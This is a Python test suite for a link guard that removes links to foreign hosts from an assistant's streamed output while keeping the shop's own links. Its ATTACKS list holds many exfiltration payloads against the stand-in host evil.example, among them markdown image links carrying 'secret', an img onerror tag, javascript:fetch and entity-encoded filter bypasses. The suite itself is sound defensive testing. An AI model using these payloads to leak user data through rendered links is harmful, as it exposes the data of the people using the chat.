"""No link to a foreign host leaves, however it is written and wherever the stream was cut."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from isolation.guard.links import REMOVED, LinkGuard

GUARD = LinkGuard(frozenset({"fjellvik.example"}))

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[click](HTTPS://evil.example/secret)",
    "see http://evil.example/secret now",
    "<https://evil.example/secret>",
    '<img src="https://evil.example/secret">',
    "<IMG SRC=//evil.example/secret>",
    "<img src='//evil.example/secret'\n onerror=alert(1)>",
    "<img src=https://evil.example/secret ",
    "![x](//evil.example/secret)",
    "![x](/\\evil.example/secret)",
    "![x](\\\\evil.example/secret)",
    "![x](https:\\/\\/evil.example/secret)",
    "![x](https\\://evil.example/secret)",
    "![x](https:/evil.example/secret)",
    "![x](https:evil.example/secret)",
    "[x]: //evil.example/secret",
    "[x]: https://evil.example/secret 'title'",
    "https://fjellvik.example@evil.example/secret",
    "https://fjellvik.example:x@evil.example/secret",
    "https://fjellvik.example\\@evil.example/secret",
    "https://fjellvik.example.evil.example/secret",
    "https://fjellvik.example&#64;evil.example/secret",
    "https://[2001:db8::1]/secret",
    "https://évil.example/secret",
    "www.evil.example/secret",
    "[x](javascript:fetch('secret'))",
    "[x](JaVaScRiPt:secret)",
    "![x](data:text/html,secret)",
    "ftp://evil.example/secret",
    "https://evil.example/" + "a" * 5_000 + "secret",
]
# What a reader's renderer must not find: a scheme with something behind it, two slashes, a tag.
DANGEROUS = (
    "https:",
    "http:",
    "ftp:",
    "javascript:",
    "data:",
    "//",
    "\\\\",
    "/\\",
    "\\/",
    "<i",
    "www.",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_foreign_link_is_removed(attack: str) -> None:
    cleaned = GUARD.clean(f"Before. {attack}").lower()
    assert cleaned.startswith("before. ")
    assert not any(sign in cleaned for sign in DANGEROUS), cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_checks_would_see_an_unguarded_answer(attack: str) -> None:
    """The leaky twin: no guard at all."""
    assert any(sign in attack.lower() for sign in DANGEROUS)


@pytest.mark.parametrize(
    ("attack", "harmless"),
    [
        ("![x](&#47;&#47;evil.example)", "& #47;& #47;"),
        ("![x](&sol;&sol;evil.example)", "& sol;& sol;"),
        ("![x](https&colon;evil.example)", "https& colon;"),
        ("[x](java&Tab;script:x)", "java& Tab;script"),
    ],
)
def test_entities_that_would_become_a_link_are_broken_up(attack: str, harmless: str) -> None:
    assert harmless in GUARD.clean(attack)


@pytest.mark.parametrize(
    "text",
    [
        "Returns within 30 days [1]. Shipping: NOK 79; 5 < 6, <3, a & b, R&D, &amp; 24/7.",
        "See https://fjellvik.example/returns?a=1#b, or [here](https://fjellvik.example/x).",
        "HTTPS://FJELLVIK.EXAMPLE:443/x <https://fjellvik.example/> and www is a word",
        "Note: use https: it is safer. JavaScript: the parts. Metadata:5/6, data: yes, Data:5",
        "Dear <PERSON_1>, we wrote to <EMAIL_ADDRESS_12>",
        "漢字 and 👍, ø/å, C:\\temp, and/or, mailto:help@fjellvik.example",
        "",
    ],
)
def test_honest_text_and_the_shops_own_links_stay_as_they_are(text: str) -> None:
    assert GUARD.clean(text) == text


def test_punctuation_after_a_link_stays() -> None:
    assert GUARD.clean("(see https://evil.example/x).") == f"(see {REMOVED})."


_FRAGMENTS = [
    *("https", "://", "fjellvik.example", "<", ">", "&", "&#", "&sol;", ";", "\\", "(", ")"),
    *("a", "W", "w", "ww", "data:", "meta", "/", ":", "<b>", "é", " ", "\n", "x" * 600),
]
_PIECES = st.sampled_from([*ATTACKS, *DANGEROUS, *_FRAGMENTS])


@settings(max_examples=400)
@given(st.lists(_PIECES, max_size=12).map("".join), st.data())
@example("https://evil.example/" + "a" * 2_048, None)
def test_a_stream_gives_the_same_wherever_it_was_cut(text: str, data: st.DataObject | None) -> None:
    stream, out, rest = GUARD.stream(), "", text
    while rest:
        size = data.draw(st.integers(1, 40)) if data else 1
        out += stream.feed(rest[:size])
        rest = rest[size:]
    assert out + stream.flush() == GUARD.clean(text)


def test_an_ordinary_answer_is_not_held_back() -> None:
    stream = GUARD.stream()
    assert stream.feed("You have 30 days ") == "You have 30 days "
    assert stream.feed("to return") == "to return"
